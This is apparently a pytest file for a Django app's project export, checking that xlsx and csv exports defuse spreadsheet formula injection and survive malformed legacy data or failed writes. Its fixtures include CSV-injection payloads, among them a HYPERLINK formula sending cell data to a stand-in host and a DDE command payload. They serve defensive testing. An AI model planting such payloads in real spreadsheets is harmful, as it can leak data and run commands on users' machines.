"""Exports that a spreadsheet cannot be tricked by, and that one odd record cannot stop."""

import csv
import datetime as dt
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from investpromo.imports import export
from investpromo.imports.export import export_event
from investpromo.projects.models import Project
from tests.factories import make_event, make_org, make_project
from tests.imports.files import HEADER, csv_file, run

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
# Each start a spreadsheet runs as a formula, the way OWASP lists them.
HOSTILE = {
    "name": HYPERLINK,
    "investor": "+cmd|' /C calc'!A0",
    "notes": "=2*3",
    "extra": {"@联系人": "@SUM(1+1)cmd", "电话": "-2+3", "网址": "\t=1+1", "错误": "#N/A"},
}


def _hostile_project(event):
    return make_project(
        event=event,
        name=HOSTILE["name"],
        investor=make_org(HOSTILE["investor"]),
        notes=HOSTILE["notes"],
        extra=HOSTILE["extra"],
        dest="230109",
        signing_date=dt.date(2024, 8, 31),
    )


def _formulas(path) -> list[str]:
    """The formula elements of every sheet of an xlsx file."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _read_back(event):
    project = Project.objects.select_related("investor").get(event=event)
    return project.name, project.investor.name, project.notes, project.extra


def test_exported_text_cells_cannot_run_formulas_xlsx(tmp_path):
    event = make_event(slug="hostile")
    _hostile_project(event)
    path = tmp_path / "hostile.xlsx"
    export_event(event, path)
    assert _formulas(path) == []
    sheet = load_workbook(path)["签约项目"]
    header, row = sheet.iter_rows(max_row=2)
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    assert cells["项目名称"].value == HYPERLINK and cells["项目名称"].data_type == "s"
    assert cells["备注"].value == "=2*3" and cells["备注"].data_type == "s"
    assert cells["@联系人"].value == "@SUM(1+1)cmd" and cells["错误"].data_type == "s"
    # Text, so it reads back exactly: nothing added, nothing lost.
    copy = make_event(slug="hostile-copy")
    assert run(path, copy).created == 1
    assert _read_back(copy) == (HYPERLINK, HOSTILE["investor"], "=2*3", _trimmed(HOSTILE["extra"]))


def _trimmed(extra: dict) -> dict:
    # The importer trims cells (a leading tab included), as it does for any file.
    return {key: value.strip() for key, value in extra.items()}


def test_exported_text_cells_cannot_run_formulas_csv(tmp_path):
    event = make_event(slug="hostile")
    _hostile_project(event)
    path = tmp_path / "hostile.csv"
    export_event(event, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    for cell in [*header, *row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    record = dict(zip(header, row, strict=True))
    assert record["项目名称"] == "'" + HYPERLINK and record["电话"] == "'-2+3"
    assert "'@联系人" in header
    copy = make_event(slug="hostile-copy")
    assert run(path, copy).created == 1
    assert _read_back(copy) == (HYPERLINK, HOSTILE["investor"], "=2*3", _trimmed(HOSTILE["extra"]))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_exported_text_cells_cannot_run_formulas_rejects(tmp_path, suffix):
    event = make_event(slug="rejects")
    rows = [[*HEADER, "备注"], [1, HYPERLINK, "@SUM(1+1)cmd", "火星", 100, "=2*3"]]
    rejects = tmp_path / f"rejects{suffix}"
    report = run(
        csv_file(tmp_path / "in.csv", rows), event, skip_invalid=True, rejects_path=rejects
    )
    assert report.rejected == 1
    if suffix == ".xlsx":
        assert _formulas(rejects) == []
        _header, row = load_workbook(rejects).active.iter_rows(max_row=2)
        assert [cell.value for cell in row[1:3]] == [HYPERLINK, "@SUM(1+1)cmd"]
        assert {cell.data_type for cell in row[1:3]} == {"s"}
    else:
        with open(rejects, encoding="utf-8-sig", newline="") as handle:
            _header, row = list(csv.reader(handle))
        assert row[1:3] == ["'" + HYPERLINK, "'@SUM(1+1)cmd"] and row[5] == "'=2*3"


def test_export_survives_a_legacy_nested_extra(tmp_path, admin_client):
    event = make_event(slug="legacy")
    nested = make_project(event=event, name="旧数据项目", dest="230109")
    make_project(event=event, name="正常项目", extra={"联系人": "张三"}, dest="230109")
    # Saved before extra was checked: a nested map, and a whole extra that is no map at all.
    Project.objects.filter(pk=nested.pk).update(extra={"k2": {"nested": "x"}, "ok": 1})
    odd = make_project(event=event, name="列表项目", dest="230109")
    Project.objects.filter(pk=odd.pk).update(extra=["a", "b"])

    response = admin_client.get(f"{reverse('web:project_export')}?event=legacy")
    assert response.status_code == 200
    workbook = tmp_path / "web.xlsx"
    workbook.write_bytes(b"".join(response.streaming_content))
    records = _records(load_workbook(workbook)["签约项目"])
    assert records["旧数据项目"]["k2"] == '{"nested": "x"}' and records["旧数据项目"]["ok"] == 1
    assert records["列表项目"]["extra"] == '["a", "b"]'
    assert records["正常项目"]["联系人"] == "张三"

    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"cli{suffix}"
        call_command("export", "--event", "legacy", str(path))
        copy = make_event(slug=f"legacy-copy{suffix[1:]}")
        assert run(path, copy).created == 3
        assert Project.objects.get(event=copy, name="旧数据项目").extra == {
            "k2": '{"nested": "x"}',
            "ok": "1",
        }


def _records(sheet) -> dict[str, dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return {row[1]: dict(zip(header, row, strict=True)) for row in rows}


def test_a_failed_export_leaves_no_empty_or_partial_file(tmp_path, monkeypatch):
    event = make_event(slug="fails")
    make_project(event=event, name="项目", dest="230109")
    kept = tmp_path / "ledger.xlsx"
    kept.write_bytes(b"last month's export")

    def broken(queryset, stream, **options):
        stream.write(b"PK half a workbook")
        raise RuntimeError("the database went away")

    monkeypatch.setattr(export, "write_projects_xlsx", broken)
    with pytest.raises(RuntimeError):
        export_event(event, kept)
    with pytest.raises(RuntimeError):
        export_event(event, tmp_path / "new.xlsx")
    assert kept.read_bytes() == b"last month's export"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["ledger.xlsx"]
